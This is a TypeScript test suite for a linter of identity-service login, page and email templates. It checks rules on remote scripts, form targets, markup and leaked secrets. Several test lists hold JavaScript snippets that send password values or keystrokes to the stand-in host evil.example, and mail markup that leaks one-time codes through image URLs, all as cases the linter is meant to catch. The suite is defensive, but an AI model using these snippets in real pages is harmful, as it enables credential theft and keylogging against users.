import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { leaksSecret } from '../../src/core/template/template.ts'
import { exampleMail, examplePage, MAIL, PAGE, SIGN_IN_PAGE } from '../../src/lint/example.ts'
import { type Finding, Linter, type LintSettings } from '../../src/lint/lint.ts'
import { folder, found, master } from './linting.ts'

/** The findings of a rule, as `severity file:line`. */
const told = (findings: readonly Finding[], rule: string) =>
  findings
    .filter(one => one.rule === rule)
    .map(({ severity, file, start }) => `${severity} ${file.split('/').at(-1)}:${start.line}`)

const REGISTRATION = 'user_flows/registration/default/registration.html'
const LABELS = 'common/labels/default/template_labels.properties'
const HEADER = 'common/page_components/default/page_header.html'
const FOOTER = 'common/page_components/default/page_footer.html'
const CODE_PAGE = 'authentication/mfa/totp/default/time_based_otp_submit.html'
const RECOVERY =
  'authentication/login/cloud_directory/password/forgot_password/default/password_recovery_email.xml'

const GENERATED = 'notifications/user_management/login/default/auto_generated_password_email_body.html'
const VERIFY = 'notifications/user_management/registration/default/verify_email_body.html'

const signIn = (attributes: string, more = '') =>
  examplePage(`<p>@ERROR_MESSAGE@</p>
<form method="post" ${attributes}>
<label>$LOGIN_USER_NAME$ <input name="username" autocomplete="username"></label>
<label>$LOGIN_PASSWORD$ <input type="password" name="password" autocomplete="current-password"></label>
<button>$LOGIN_BUTTON$</button>${more}
</form>`)

describe('scripts of others', () => {
  const script = (attributes: string) =>
    examplePage('<p>$PRODUCT_NAME$</p>', `<script ${attributes}></script>\n`)
  const CDN = 'defer src="https://cdn.example/brand.js"'
  const MANAGER = 'defer src="https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123"'
  const scripts = (files: Record<string, string>, settings?: LintSettings) =>
    told(found(files, settings), 'remote/script')

  test('are a warning where their content is fixed by a hash', () => {
    assert.deepEqual(scripts({ [PAGE]: script(`${CDN} integrity="sha384-abc"`) }), [
      'warning logout_success.html:7',
    ])
  })

  test('are no mistake where their origin is allowed, and only that origin', () => {
    const settings = { allowed: { scriptOrigins: ['https://cdn.example'] } }
    assert.deepEqual(scripts({ [PAGE]: script(CDN) }, settings), [])
    assert.deepEqual(scripts({ [PAGE]: script(CDN.replace('cdn', 'cdn2')) }, settings), [
      'error logout_success.html:7',
    ])
  })

  test('are found in a label, in an import and in addresses that only browsers understand', () => {
    const labels = '$LOGOUT_OK_SIGNOUT_SUCCESSFUL$=Done <script src=//cdn.example/x.js></script>\n'
    const page = examplePage('<p>$LOGOUT_OK_SIGNOUT_SUCCESSFUL$</p>')
    assert.deepEqual(scripts({ [LABELS]: labels, [PAGE]: page }), ['error template_labels.properties:1'])
    const module = '<script type="module">import "https://cdn.example/x.js"</script>'
    assert.deepEqual(scripts({ [PAGE]: examplePage(module) }), ['error logout_success.html:9'])
    assert.deepEqual(scripts({ [PAGE]: script('src="\\\\cdn.example/x.js"') }), [
      'error logout_success.html:7',
    ])
  })

  test('are found in the strings of scripts and event handlers that load them', () => {
    const loading = 's.src = "https://cdn.example/x.js?v=1"'
    assert.deepEqual(scripts({ [PAGE]: examplePage(`<script>${loading}</script>`) }), [
      'error logout_success.html:9',
    ])
    const handler = `<button type="button" onclick='import("//cdn.example/x.mjs")'>$PRODUCT_NAME$</button>`
    assert.deepEqual(scripts({ [PAGE]: examplePage(handler) }), ['error logout_success.html:9'])
    assert.deepEqual(scripts({ 'common/static/js/a.js': `${loading}\n` }), ['warning a.js:1'])
    const allowed = { allowed: { scriptOrigins: ['https://cdn.example'] } }
    assert.deepEqual(scripts({ 'common/static/js/a.js': `${loading}\n` }, allowed), [])
    for (const text of [
      '"https://www.example.com/help"',
      '"/template/v1.0/static/js/x.js"',
      '// https://a.example/x.js',
    ])
      assert.deepEqual(scripts({ [PAGE]: examplePage(`<script>const x = ${text}\n</script>`) }), [], text)
  })

  test('that data name are a warning, which hides no script', () => {
    const address = '"https://cdn.example/a.js"'
    const data = `<script type="application/ld+json">{"logo":${address}}</script>`
    assert.deepEqual(scripts({ [PAGE]: examplePage(data) }), ['warning logout_success.html:9'])
    assert.deepEqual(scripts({ [PAGE]: examplePage(`${data}\n<script>load(${address})</script>`) }), [
      'error logout_success.html:10',
      'warning logout_success.html:9',
    ])
    for (const type of ['importmap', 'module', '@ERROR_CODE@']) {
      const script = `<script type="${type}">{"imports":{"a":${address}}}</script>`
      assert.deepEqual(scripts({ [PAGE]: examplePage(script) }), ['error logout_success.html:9'], type)
    }
  })

  test('are those of the service where they begin with its address', () => {
    for (const host of ['@TENANT_URL@', 'https://@TENANT@', ''])
      assert.deepEqual(scripts({ [PAGE]: script(`defer src="${host}/usc/js/ieCheck.js"`) }), [])
    assert.deepEqual(scripts({ [PAGE]: script('defer src="https://@TENANT@.evil.example/x.js"') }), [
      'error logout_success.html:7',
    ])
  })

  test('of a tag manager stand on the registration page where analytics are switched on, and nowhere else', () => {
    const page = examplePage('@REGISTRATION_FORM@', `<script ${MANAGER}></script>\n`)
    const settings = { allowed: { scriptOrigins: [], tagManager: true } }
    assert.deepEqual(scripts({ [REGISTRATION]: page }), ['error registration.html:7'])
    assert.deepEqual(scripts({ [REGISTRATION]: page }, settings), [])
    assert.deepEqual(scripts({ [PAGE]: script(MANAGER) }, settings), ['error logout_success.html:7'])
    const inline = examplePage(
      '<script>load("https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123")</script>',
    )
    assert.deepEqual(scripts({ [PAGE]: inline }, settings), ['error logout_success.html:9'])
    assert.deepEqual(
      scripts({ [REGISTRATION]: inline.replace('</script>', '</script>@REGISTRATION_FORM@') }, settings),
      [],
    )
  })

  test('never run on pages about an account, which is a warning', () => {
    const page = 'authentication/logout/default/logout_confirm.html'
    const findings = found({ [page]: examplePage('<script>console.info(1)</script>') })
    assert.deepEqual(told(findings, 'csp/inline-script'), ['warning logout_confirm.html:9'])
    const header = found({ [HEADER]: '<header>$PRODUCT_NAME$</header><script>console.info(1)</script>\n' })
    assert.deepEqual(told(header, 'csp/inline-script'), [], 'a header, whose scripts run on other pages')
  })
})

describe('forms', () => {
  const actions = (attributes: string, more = '') =>
    told(found({ [SIGN_IN_PAGE]: signIn(attributes, more) }), 'form/external-action')

  test('may have the address of the service in every way that themes write it, or none', () => {
    for (const action of [
      '@ACTION@',
      '@ACTION@&amp;themeId=@THEME_ID@',
      '@TENANT_URL@@ACTION@',
      'https://@TENANT@@ACTION@',
      // Macros that are never empty.
      '@THEME_ID@//path',
      '@ERROR_CODE@@LOCALE@//path',
    ])
      assert.deepEqual(actions(`action="${action}"`), [])
    assert.deepEqual(actions(''), [])
  })

  test('must not be sent elsewhere, by a button or by a control outside of them either', () => {
    for (const address of [
      '//evil.example/x',
      '@TENANT_URL@.evil.example/x',
      '@TENANT_URL@@evil.example/x',
      // Macros may be empty.
      '@ERROR_CODE@https://evil.example/x',
      '@ERROR_CODE@ @ERROR_MESSAGE@//evil.example/x',
      '@ERROR_CODE@@TENANT_URL@.evil.example/x',
      '@ERROR_CODE@HT&#9;TPS://evil.example/x',
      // A page without a form has no value for it.
      '@ACTION@//evil.example/x',
    ])
      assert.deepEqual(actions(`action="${address}"`), ['error cloud_directory_login.html:10'], address)
    assert.deepEqual(
      actions('action="@ACTION@"', '<button formaction="https://evil.example/x">$LOGIN_BUTTON$</button>'),
      ['error cloud_directory_login.html:13'],
    )
    const apart = examplePage(`<form id="f" method="post" action="https://evil.example/x"></form>
<label>$LOGIN_PASSWORD$ <input form="f" type="password" autocomplete="current-password"></label>`)
    assert.deepEqual(told(found({ [PAGE]: apart }), 'form/external-action'), ['error logout_success.html:9'])
  })

  test('that ask for nothing secret may be sent anywhere', () => {
    const search = examplePage(
      `<form action="https://www.example.com/"><label>$PRODUCT_NAME$ <input name="q"></label></form>`,
    )
    assert.deepEqual(found({ [PAGE]: search }), [])
  })

  test('that lack a part name the page, the state and the language', () => {
    const silent = signIn('action="@ACTION@"').replace('<p>@ERROR_MESSAGE@</p>', '')
    const [finding, ...more] = found({
      [SIGN_IN_PAGE]: signIn('action="@ACTION@"'),
      [SIGN_IN_PAGE.replace('/default/', '/de/')]: silent,
    })
    assert.deepEqual(more, [])
    assert.equal(finding?.rule, 'macro/required')
    assert.deepEqual(finding.pages, ['login'])
    assert.deepEqual(finding.locales, ['de'])
    assert.deepEqual(finding.states, ['wrong', 'locked'])
    const [everywhere] = found({ [SIGN_IN_PAGE]: silent.replace(/<input name="username"[^>]*>/, '') })
    assert.equal(everywhere?.states, undefined)
  })

  test('must not be beside or around a form that the service writes', () => {
    const beside = found({ [HEADER]: '<header>$PRODUCT_NAME$</header>\n\n<form action="/search"></form>\n' })
    assert.deepEqual(told(beside, 'form/required-field'), ['error page_header.html:3'])
    assert.match(
      beside.find(({ rule }) => rule === 'form/required-field')!.message,
      /must be the only one.*Remove the other form\.$/,
    )
    const apps = 'user_flows/access/default/apps.html'
    const around = found({ [apps]: examplePage('<h1>$APPS_TITLE$</h1><a href="/">@APPS_LIST@</a>') })
    assert.match(
      around.find(({ rule }) => rule === 'form/required-field')!.message,
      /must not be inside a link or a button/,
    )
  })

  test('lack a field that browsers make no field of, or that nobody can fill in', () => {
    const page = signIn('action="@ACTION@"')
    const field = /<input type="password"[^>]*>/
    for (const instead of [
      '<svg>$&</svg>',
      '<template>$&</template>',
      '<!-- $& -->',
      '<div style="display: none">$&</div>',
      '<div style="display:/**/none">$&</div>',
      '<div style="display: block; disp\\6c ay: none">$&</div>',
      '<fieldset disabled>$&</fieldset>',
      '</form>$&',
    ])
      assert.deepEqual(
        [
          ...new Set(
            found({ [SIGN_IN_PAGE]: page.replace(field, instead) })
              .map(({ rule }) => rule)
              .filter(rule => rule.startsWith('form/required')),
          ),
        ],
        ['form/required-field'],
        instead,
      )
  })

  test('are finished by scripts of the service where they load them', () => {
    const page = examplePage(`<p>@ERROR_MESSAGE@</p>
<form id="combined-form" method="post" action=""><input name="otp"><button>$OTP_LOGIN_SUBMIT$</button></form>
<form method="post" action="@ACTION@"><button name="operation" value="restart">$USE_ANOTHER_METHOD$</button></form>
<script src="/authsvc/mtfim/sps/static/totp_login.js"></script>`)
    assert.deepEqual(found({ [CODE_PAGE]: page }), [])
  })
})

describe('scripts on pages that ask for a password', () => {
  const requests = (files: Record<string, string>, settings?: LintSettings) =>
    told(found(files, settings), 'form/external-request')
  const inline = (code: string) =>
    requests({ [SIGN_IN_PAGE]: signIn('action="@ACTION@"', `\n<script>\n${code}\n</script>`) })

  for (const code of [
    `fetch('https://evil.example/x', { method: 'POST', body: new FormData(form) })`,
    'navigator.sendBeacon("//evil.example/x", input.value)',
    `const x = new XMLHttpRequest(); x.open('POST', "https://evil.example/x"); x.send(input.value)`,
    `const to = 'https://evil.example/x'\nform.onsubmit = () => fetch(to, { body: form.elements.password.value })`,
    `const paths = { to: 'https://evil.example/x' }; fetch(paths.to + '?' + input.value)`,
    `const config = { url: 'https://evil.example/x' }; fetch(axios(config.url), input.value)`,
    `const inner = 'https://evil.example/x'; fetch(axios(inner), input.value)`,
    `const $to = 'https://evil.example/x'; x.open('POST', $to.trim()); x.send(input.value)`,
    `new WebSocket('wss://evil.example/x').send(input.value)`,
    `$.post('https://evil.example/x', $('form').serialize())`,
    `$.ajax({ url: 'https://evil.example/x', data: $('#password').val() })`,
    `location.href = 'https://evil.example/?p=' + input.value`,
    `new Image().src = \`https://evil.example/?p=\${input.value}\``,
    `form.action = 'https://evil.example/x'; note(input.value)`,
    `form.addEventListener('keydown', e => fetch('https://evil.example/k?' + e.key))`,
    `let all = ''; form.onkeyup = e => { all += e.key; navigator.sendBeacon('https://evil.example/', all) }`,
    `form.onkeypress = e => keys.push(e.which); fetch('https://evil.example/', { body: keys })`,
    `form.oninput = ({target:{value}}) => fetch('https://evil.example/', { body: value })`,
    `const { name, value } = input; fetch('https://evil.example/', { body: value })`,
    `fields.forEach(({ value: v }) => fetch('https://evil.example/', { body: v }))`,
    `fetch('https://evil.example/', { body: f['value'] })`,
    `fetch(new Request('https://evil.example/x', { method: 'POST', body: input.value }))`,
    `const r = new Request('https://evil.example/x', { body: input.value }); fetch(r)`,
    `const u = new URL('https://evil.example/'); u.searchParams.set('p', input.value); fetch(u)`,
    `fetch(new URL('/x?' + 1, 'https://evil.example'), { body: input.value })`,
    `fetch(new URL('/x', 'https://evil.example'), { body: input.value })`,
    `const base = 'https://evil.example'; fetch(new URL('/x', base), { body: input.value })`,
    `window['fetch']('https://evil.example/x', { body: input.value })`,
    `fetch?.('https://evil.example/x', { body: input.value })`,
    `img.setAttribute('src', 'https://evil.example/?' + input.value)`,
    `button.formAction = 'https://evil.example/'; note(input.value)`,
  ])
    test(`must not send it elsewhere: ${code}`, () => {
      assert.deepEqual(inline(code), ['error cloud_directory_login.html:14'])
    })

  for (const code of [
    `fetch('/v1.0/thing', { body: input.value })`,
    `fetch('https://@TENANT@/thing', { body: input.value })`,
    `fetch(form.action, { body: new FormData(form) }); const help = 'https://www.example.com/help'`,
    `help.href = 'https://www.example.com/help'; button.disabled = input.value === ''`,
    `location.href = 'https://www.example.com/help'; note(input.value)`,
    `fetch('https://status.example/now').then(show)`,
    `document.onkeydown = e => { if (e.key === 'Escape') close() }; fetch('https://status.example/now')`,
    `onkeydown = e => ['Enter', ' '].includes(e.key) && open(); fetch('https://status.example/now')`,
    `onkeydown = e => { switch (e.key) { case 'Tab': next() } }; fetch('https://status.example/now')`,
    `watch(input, { attributeFilter: ['value'] }); fetch('https://status.example/now')`,
    `define(x, 'y', { value: 1 }); fetch('https://status.example/now')`,
    `const help = new URL('https://www.example.com/help'); button.disabled = input.value === ''`,
    `img.setAttribute('src', 'https://www.example.com/logo.png'); note(input.value)`,
    `// fetch('https://evil.example/x')\nnote(input.value)`,
  ])
    test(`may do other things: ${code}`, () => assert.deepEqual(inline(code), []))

  test('must not do it in an event handler, in a file or in a footer', () => {
    const handler = `<button type="button" onclick="fetch('https://evil.example/', { body: form.password.value })">$LOGIN_BUTTON$</button>`
    assert.deepEqual(requests({ [SIGN_IN_PAGE]: signIn('action="@ACTION@"', handler) }), [
      'error cloud_directory_login.html:13',
    ])
    const sending = `note()\nfetch('https://evil.example/', { body: input.value })\n`
    const loading = '<script defer src="/template/v1.0/static/js/own.js?themeId=@THEME_ID@"></script>'
    const file = { 'common/static/js/own.js': sending }
    assert.deepEqual(requests({ ...file, [SIGN_IN_PAGE]: signIn('action="@ACTION@"', loading) }), [
      'error own.js:2',
    ])
    assert.deepEqual(requests({ ...file, [FOOTER]: loading }), ['error own.js:2'])
    for (const type of ['text/jscript', 'text/javascript1.5', '@ERROR_CODE@'])
      assert.deepEqual(requests({ [FOOTER]: `<script type="${type}">${sending}</script>` }), [
        'error page_footer.html:1',
      ])
    assert.deepEqual(requests({ ...file, [PAGE]: examplePage(loading) }), [], 'a page that asks for nothing')
    assert.deepEqual(requests({ 'common/static/js/forms.js': sending }), ['error forms.js:2'])
    assert.deepEqual(requests({ [FOOTER]: `<script>${sending}</script>` }), ['error page_footer.html:1'])
    assert.deepEqual(requests({ [PAGE]: examplePage(`<script>${sending}</script>`) }), [])
  })

  test('may do it where the origin is allowed, and a comment allows nothing', () => {
    const silenced = signIn(
      'action="@ACTION@"',
      `\n<!-- tabard-lint-disable form/external-request: ours -->
<script>fetch('https://ours.example/', { body: input.value })</script>`,
    )
    const allowed = { allowed: { scriptOrigins: ['https://ours.example'] } }
    assert.deepEqual(requests({ [SIGN_IN_PAGE]: silenced }), ['error cloud_directory_login.html:15'])
    assert.deepEqual(requests({ [SIGN_IN_PAGE]: silenced }, allowed), [])
  })
})

describe('scripts that a page waits for', () => {
  const PLAIN = '<script src="/template/v1.0/static/js/forms.js?themeId=@THEME_ID@"></script>\n'
  const waits = (body: string, others: Record<string, string> = {}) =>
    told(found({ [PAGE]: examplePage(body, PLAIN), ...others }), 'remote/parser-blocking')
  const FOUND = ['recommendation logout_success.html:7']

  test('are left as they are where a script in the page, its header or its footer may need them', () => {
    const inline = '<script>start()</script>'
    const second = PLAIN.replace('forms', 'show-password')
    assert.deepEqual(waits('<p>$PRODUCT_NAME$</p>@PAGE_FOOTER@'), FOUND)
    assert.deepEqual(waits(inline), [])
    assert.deepEqual(waits(second), [])
    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: inline }), [])
    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: second }), [])
    assert.deepEqual(waits('@PAGE_HEADER@', { [FOOTER]: inline }), FOUND, 'a footer that is not there')
    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER.replace('/default/', '/de/')]: inline }), [])
  })

  test('are found where what follows them waits as well, or is no script', () => {
    for (const more of ['<script type="module">x()</script>', '<script type="application/json">{}</script>'])
      assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: more }), FOUND, more)
    assert.deepEqual(waits(PLAIN.replace('<script', '<script defer')), FOUND)
  })
})

describe('markup', () => {
  const syntax = (files: Record<string, string>) => told(found(files), 'html/syntax')

  test('of header and footer is read together with the page', () => {
    const page = examplePage('@PAGE_HEADER@<p>$PRODUCT_NAME$</p>@PAGE_FOOTER@')
    assert.deepEqual(syntax({ [HEADER]: '<div>\n', [FOOTER]: '</div>\n', [PAGE]: page }), [])
    assert.deepEqual(syntax({ [HEADER]: '<div>\n' }), ['error page_header.html:1'])
    const twice = found({
      [HEADER]: '<p id="top">$PRODUCT_NAME$</p>\n',
      [PAGE]: page.replace('<p>', '<p id="top">'),
    })
    assert.deepEqual(told(twice, 'html/duplicate-id'), ['warning logout_success.html:9'])
    const taken = found({ [HEADER]: '<a id="password" href="/">$PRODUCT_NAME$</a>\n' })
    assert.deepEqual(told(taken, 'html/duplicate-id'), ['warning page_header.html:1'], "the master's id")
  })

  test('may leave out the end tags that HTML lets be left out', () => {
    const page = examplePage(`<p>$PRODUCT_NAME$
<ul><li>$PRODUCT_NAME$<li>$PRODUCT_NAME$</ul>
<table><tr><td>$PRODUCT_NAME$<td>$PRODUCT_NAME$</table>
<svg width="1" height="1" viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0"/></svg>`)
    assert.deepEqual(syntax({ [PAGE]: page }), [])
  })

  test('that is wrongly nested is told once, and an end tag too many is a warning', () => {
    assert.deepEqual(syntax({ [PAGE]: examplePage('<b><i>$PRODUCT_NAME$</b></i>') }), [
      'error logout_success.html:9',
    ])
    assert.deepEqual(syntax({ [PAGE]: examplePage('<p>$PRODUCT_NAME$</p></div>') }), [
      'warning logout_success.html:9',
    ])
  })

  test('between curly quotes is an error', () => {
    const link = '<link rel=“stylesheet” href=“/template/v1.0/static/theme.css?themeId=@THEME_ID@”>\n'
    assert.deepEqual(syntax({ [PAGE]: examplePage('<p>$PRODUCT_NAME$</p>', link) }), [
      'error logout_success.html:7',
      'error logout_success.html:7',
    ])
  })

  test('that does not end is told where it begins', () => {
    const form = '<form method="post" action="@ACTION@"><button name="a">$LOGIN_BUTTON$</button></form>'
    const inside = (text: string) => syntax({ [PAGE]: examplePage(`${text}\n${form}`) })[0]
    assert.equal(inside('<p class="lead>$PRODUCT_NAME$</p>'), 'error logout_success.html:9')
    assert.equal(inside('<p class="lead"\n<b>$PRODUCT_NAME$</b></p>'), 'error logout_success.html:9')
    assert.equal(inside('<p class=lead small">$PRODUCT_NAME$</p>'), 'warning logout_success.html:9')
    assert.equal(inside('<p id="a" class="b" id="c">$PRODUCT_NAME$</p>'), 'warning logout_success.html:9')
    assert.equal(inside('<!-- The form <!-- of this page --> -->'), 'warning logout_success.html:9')
    for (const text of ['<!-- The end', '<p class="', '<p', '</p'])
      assert.equal(
        syntax({ [PAGE]: examplePage('<p>$PRODUCT_NAME$</p>') + text })[0],
        'error logout_success.html:12',
      )
    for (const text of [
      '<!--[if !mso]><!--><hr><!--<![endif]-->',
      '<hr class="a>b" title=\'"\' />',
      '<p>a <',
    ])
      assert.equal(inside(text), undefined, text)
  })

  test('with macros in the names of tags is told as it was written', () => {
    const named = examplePage('<x-@LOCALE@><y-@LOCALE@>$PRODUCT_NAME$</y-@LOCALE@>')
    const messages = found({ [PAGE]: named }).filter(({ rule }) => rule === 'html/syntax')
    assert.deepEqual(
      messages.map(({ message }) => message),
      ['<x-@LOCALE@> is not closed before </body>.'],
    )
  })

  test('over a limit of the service is an error', () => {
    const deep = examplePage(`${'<div>'.repeat(600)}${'</div>'.repeat(600)}`)
    assert.match(found({ [PAGE]: deep })[0]!.message, /nested too deeply/)
  })

  test('in the folder of a language may name that language', () => {
    const german = examplePage('<p>$PRODUCT_NAME$</p>').replace('@LANG@', 'de')
    const english = examplePage('<p>$PRODUCT_NAME$</p>')
    assert.deepEqual(found({ [PAGE]: english, [PAGE.replace('/default/', '/de/')]: german }), [])
    assert.deepEqual(told(found({ [PAGE.replace('/default/', '/fr/')]: german }), 'html/lang'), [
      'warning logout_success.html:2',
    ])
  })

  test('keeps what is right in it where it is fixed', () => {
    const fixes = (page: string) =>
      found({ [PAGE]: page }).flatMap(({ rule, fix }) =>
        /^html\/(?:viewport|doctype)/.test(rule) ? [fix?.title] : [],
      )
    const page = examplePage('<p>$PRODUCT_NAME$</p>')
    assert.deepEqual(
      fixes(page.replace('initial-scale=1', 'maximum-scale=1,user-scalable=no,viewport-fit=cover')),
      ['Write <meta name="viewport" content="width=device-width, viewport-fit=cover">'],
    )
    const bare = page.replace('<!doctype html>\n', '')
    assert.deepEqual(fixes(`<!-- Ours -->\n${bare}`), ['Add <!doctype html>'])
    assert.deepEqual(fixes(`@PAGE_HEADER@\n${bare}`), [undefined], 'a doctype there would be ignored')
  })

  test('with an address that does nothing is a warning', () => {
    const link = examplePage('<a href="javascript:void(0)">$PRODUCT_NAME$</a>')
    assert.deepEqual(told(found({ [PAGE]: link }), 'csp/javascript-url'), ['warning logout_success.html:9'])
  })
})

describe('mails', () => {
  const needed = (path: string, message: string) =>
    told(found({ [path]: exampleMail(message) }), 'mail/required-macro')

  test('must show their code where people see it', () => {
    const lacking = ['error otp_delivery_email.xml:1']
    for (const message of ['<!-- @OTP@ -->', '<p hidden>@OTP@</p>'])
      assert.deepEqual(needed(MAIL, `<p>$PRODUCT_NAME$</p>${message}`), lacking)
    assert.deepEqual(needed(MAIL, '<p title="@OTP@">$PRODUCT_NAME$</p>'), [
      ...lacking,
      'error otp_delivery_email.xml:6',
    ])
    assert.deepEqual(needed(MAIL, '<p><b>@OTP@</b></p>'), [])
  })

  test('may have their link as an address or as a text', () => {
    assert.deepEqual(needed(RECOVERY, '<a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a>'), [])
    assert.deepEqual(needed(RECOVERY, '<p>@PASSWORD_RECOVERY_LINK@</p>'), [])
    const lacking = ['error password_recovery_email.xml:1']
    assert.deepEqual(needed(RECOVERY, '<p>$PRODUCT_NAME$</p>'), lacking)
    const hidden = '<p hidden><a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a></p>'
    assert.deepEqual(needed(RECOVERY, hidden), lacking)
  })

  test('must not have their code or link where it could be sent to somebody else', () => {
    const place = ['error otp_delivery_email.xml:6']
    for (const attribute of [
      '<img src="https://images.example/?c=@OTP@" alt="" width="1" height="1">',
      '<a href="https://www.example.com/@OTP@">$PRODUCT_NAME$</a>',
      '<a href="@OTP@">$PRODUCT_NAME$</a>',
      '<p style="background: url(https://images.example/@OTP@)">$PRODUCT_NAME$</p>',
      '<style>p { background: url(https://images.example/@OTP@) }</style>',
      '<base href="https://www.example.com/">',
    ]) {
      assert.deepEqual(needed(MAIL, `<p>@OTP@</p>${attribute}`), place, attribute)
      // The mailer refuses the same mails.
      assert.ok(leaksSecret(`<p>@OTP@</p>${attribute}`.replaceAll('@OTP@', '483920'), ['483920']), attribute)
    }
    assert.deepEqual(needed(GENERATED, '<p title="@USER.PASSWORD@">@USER.PASSWORD@</p>'), [
      'error auto_generated_password_email_body.html:6',
    ])
    const link = '<a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a>'
    assert.deepEqual(needed(RECOVERY, `${link}<a href="@PASSWORD_RECOVERY_LINK@&amp;x=1">x</a>`), [
      'error password_recovery_email.xml:6',
    ])
    assert.deepEqual(needed(RECOVERY, `${link}<p>@PASSWORD_RECOVERY_LINK@</p>`), [])
  })

  test('name the language in which their code is missing', () => {
    const [finding] = found({ [MAIL.replace('/default/', '/fr/')]: exampleMail('<p>$EMAIL_OTP_INTRO$</p>') })
    assert.deepEqual(finding?.locales, ['fr'])
    assert.deepEqual(finding.pages, ['mail-one-time-code'])
  })

  test('take addresses with a scheme, or macros that are whole addresses', () => {
    const links = (href: string) =>
      told(
        found({ [MAIL]: exampleMail(`<p>@OTP@</p><a href="${href}">$PRODUCT_NAME$</a>`) }),
        'mail/relative-url',
      )
    for (const href of [
      'mailto:help@harbour.example',
      'https://@TENANT@/x',
      '@TENANT_URL@/x',
      '#top',
      '$HELP_URL$',
    ])
      assert.deepEqual(links(href), [])
    for (const href of ['@TENANT@/x', 'help.html', '//www.example.com/', '/$HELP_PATH$'])
      assert.deepEqual(links(href), ['error otp_delivery_email.xml:6'])
  })

  test('without a subject of their own in a pair of files are an error', () => {
    const findings = found({ [VERIFY.replace('body.html', 'subject.txt')]: ' \n' })
    assert.deepEqual(told(findings, 'mail/subject-empty'), ['error verify_email_subject.txt:1'])
  })

  test('may have a body of XHTML that begins as XML does', () => {
    const xml = (text: string) => told(found({ [VERIFY]: text }), 'mail/xml')
    const start = '<?xml version="1.0" encoding="UTF-8"?>\n'
    const body = '<!DOCTYPE html>\n<html lang="@LANG@"><body>x<br><p>@VERIFY_LINK@</p></body></html>\n'
    assert.deepEqual(xml(`${start}${body}`), [])
    assert.deepEqual(xml(`${start}<rot><Message><Value><![CDATA[${body}]]></Value></Message>\n`), [
      'error verify_email_body.html:2',
    ])
  })
})

describe('packages made for IBM Security Verify', () => {
  // Each of these findings was judged by hand: none is false.
  const expected: Record<string, Record<string, number>> = {
    'field-package': {
      'csp/inline-handler': 4,
      'csp/inline-style': 3,
      'csp/javascript-url': 1,
      'form/autocomplete': 2,
      'form/label': 1,
      'html/lang': 1,
      'html/syntax': 20,
      'remote/asset': 3,
    },
    'field-scripts-package': {
      'a11y/heading-order': 9,
      'csp/inline-handler': 10,
      'csp/inline-style': 2,
      'csp/javascript-url': 3,
      'form/autocomplete': 10,
      'html/lang': 15,
      'remote/parser-blocking': 2,
    },
  }

  for (const [name, counts] of Object.entries(expected))
    test(`of ${name} have the mistakes that they have, and no others`, () => {
      const findings = new Linter(folder(`test/fixtures/${name}/templates`), master)
        .findings()
        .filter(({ rule }) => /^(?:html|form|a11y|id|csp|remote|security|analytics|mail)\//.test(rule))
      const groups = Object.groupBy(findings, ({ rule }) => rule)
      assert.deepEqual(
        Object.fromEntries(
          Object.entries(groups)
            .map(([rule, all]) => [rule, all!.length])
            .sort(),
        ),
        counts,
      )
    })
})
